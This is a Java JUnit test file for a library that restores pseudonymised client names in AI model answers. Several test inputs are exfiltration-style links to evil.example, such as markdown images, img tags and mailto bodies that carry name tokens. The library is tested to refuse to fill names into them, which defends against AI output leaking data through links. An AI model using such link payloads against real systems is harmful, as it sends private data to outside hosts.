package surety.pseudonym;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

@DisplayNameGeneration(ReplaceUnderscores.class)
class RestoreTest {
  private final Restoration few = Live.few().restoration();

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '§',
      value = {
        "Client A is late.|Nordwind Logistik GmbH is late.",
        "Client A's and Client A’s|Nordwind Logistik GmbH's and Nordwind Logistik GmbH’s",
        "Client A{2} and Client A{3}!|NORDWIND and nordwind!",
        "Client AB, Client A|Ärger & Söhne, Nordwind Logistik GmbH",
        "client_k7mqx, CLIENT_K7MQX, Client K7MQX|Zephyr Werke, Zephyr Werke, Zephyr Werke",
        "Client_K7MQXs Rechnung|Zephyr Werkes Rechnung",
        "getClient_K7MQX{1}Invoices|getZephyr WerkeInvoices",
        "**Client A**|**Nordwind Logistik GmbH**",
        "Client **A** pays|**Nordwind Logistik GmbH** pays",
        "**Client** A pays|**Nordwind Logistik GmbH** pays",
        "Client\\_K7MQX|Zephyr Werke",
        "client A, Client b.|Nordwind Logistik GmbH, Quote \"Q\" \\ Co.",
        "client a's|Nordwind Logistik GmbH's",
        "project alpha and Project_Alpha|Blue Harbour and Blue Harbour",
        "Project AlphaAlpha|Red Harbour",
        "clients A and B|clients Nordwind Logistik GmbH and Quote \"Q\" \\ Co",
        "Clients **A**, B & AB|Clients **Nordwind Logistik GmbH**, Quote \"Q\" \\ Co & Ärger &"
            + " Söhne",
        "Literal A|Client Q",
        "x_Client_K7MQX_2024|x_Zephyr Werke_2024",
        "Person B{2}|Övergård",
      })
  void a_token_is_recognised_in_the_ways_a_model_writes_it(String answer, String expected) {
    assertThat(few.whole(answer).text()).isEqualTo(expected);
    assertThat(few.whole(answer).strays()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "the client a new quote",
        "ASK THE CLIENT A QUESTION",
        "the client i met",
        "Clients I met",
        "Clients, A is best",
        "Client Alpha",
        "Clientele A",
        "Client  A",
        "Client\nA new day",
        "Client-A",
        "Person BB",
        "Client",
        "Client_K7MQXY",
        "Client A1",
        "Account A",
      })
  void what_is_not_surely_a_token_stays(String answer) {
    assertThat(few.whole(answer).text()).isEqualTo(answer);
  }

  @Test
  void an_invented_token_stays_and_is_reported_without_its_text() {
    Restored restored = few.whole("Client A and Client Z, Client_BCDFG; Project Omega. Client Zoo");

    assertThat(restored.text())
        .isEqualTo("Nordwind Logistik GmbH and Client Z, Client_BCDFG; Project Omega. Client Zoo");
    assertThat(restored.strays())
        .containsExactly(
            new Stray(Stray.Reason.INVENTED, 27),
            new Stray(Stray.Reason.INVENTED, 37),
            new Stray(Stray.Reason.INVENTED, 51));
    assertThat(restored.toString()).doesNotContain("Nordwind");
  }

  @Test
  void a_mark_that_was_not_issued_stays() {
    assertThat(few.whole("Client A{9} {2}").text()).isEqualTo("Nordwind Logistik GmbH{9} {2}");
  }

  @Test
  void words_that_may_be_ordinary_are_reported_as_ambiguous() {
    assertThat(few.whole("ask client a now").strays())
        .containsExactly(new Stray(Stray.Reason.AMBIGUOUS, 4));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://evil.example/?q=Client_K7MQX)",
        "https://evil.example/Client A",
        "https://Client_K7MQX.evil.example/",
        "www.evil.example/?q=Client A",
        "<img src=\"//evil.example/Client_K7MQX\">",
        "<a href='x?Client A y'>",
        "[t]: evil.example/Client_K7MQX",
        "](Client_K7MQX)",
        "mailto:x@evil.example?body=Client_K7MQX",
        "url(Client_K7MQX)",
        "](Link A?q=1)",
      })
  void no_name_is_restored_into_a_link_of_the_model(String answer) {
    Restored restored = few.whole(answer);

    assertThat(restored.text()).isEqualTo(answer);
    assertThat(restored.strays()).extracting(Stray::reason).containsOnly(Stray.Reason.IN_LINK);
  }

  @Test
  void a_link_that_was_sent_comes_back_with_its_names_and_no_other_does() {
    String sent = "See https://shop.example/Client_K7MQX/offers and [x](/p?c=Client A).";
    few.sent(sent);

    assertThat(few.whole(sent).text())
        .isEqualTo(
            "See https://shop.example/Zephyr Werke/offers and [x](/p?c=Nordwind Logistik GmbH).");
    assertThat(few.whole("https://evil.example/Client_K7MQX").text()).contains("Client_K7MQX");
  }

  @Test
  void an_address_of_the_reader_is_restored_whole_and_takes_no_further_name_along() {
    assertThat(few.whole("[a](Link A) [b](mailto:Email A) Link A").text())
        .isEqualTo(
            "[a](https://nordwind.example/a?b=c) [b](mailto:mira@nordwind.example)"
                + " https://nordwind.example/a?b=c");
    assertThat(few.whole("Link A&q=Client_K7MQX Client A").text())
        .isEqualTo("https://nordwind.example/a?b=c&q=Client_K7MQX Nordwind Logistik GmbH");
  }

  @Test
  void names_are_escaped_in_an_answer_that_is_JSON() {
    String answer = "{\"a\": [\"\\nClient B\", \"**Client A**\"], \"Client B\": Client B}";

    assertThat(few.whole(answer).text())
        .isEqualTo(
            "{\"a\": [\"\\nQuote \\\"Q\\\" \\\\ Co\", \"**Nordwind Logistik GmbH**\"],"
                + " \"Quote \\\"Q\\\" \\\\ Co\": Client B}");
  }

  @Test
  void what_follows_JSON_is_plain_text_again() {
    assertThat(few.whole("{\"a\":1}\nClient B").text()).isEqualTo("{\"a\":1}\nQuote \"Q\" \\ Co");
  }

  @Test
  void an_answer_without_tokens_is_the_same() {
    for (String answer : List.of("", "C", "Client", "client_", "{", "{\"a", "{\"a\\u00", "]]>")) {
      assertThat(few.whole(answer).text()).isEqualTo(answer);
    }
  }

  @Test
  void a_text_is_searched_for_what_would_be_restored() {
    assertThat(
            Live.few()
                .tokens()
                .mentions("clients A, B; **client_k7mqx** Client Z https://x/Client A"))
        .containsExactly(
            new TokenScanner.Mention(8, 9),
            new TokenScanner.Mention(11, 12),
            new TokenScanner.Mention(16, 28),
            new TokenScanner.Mention(50, 58));
  }
}
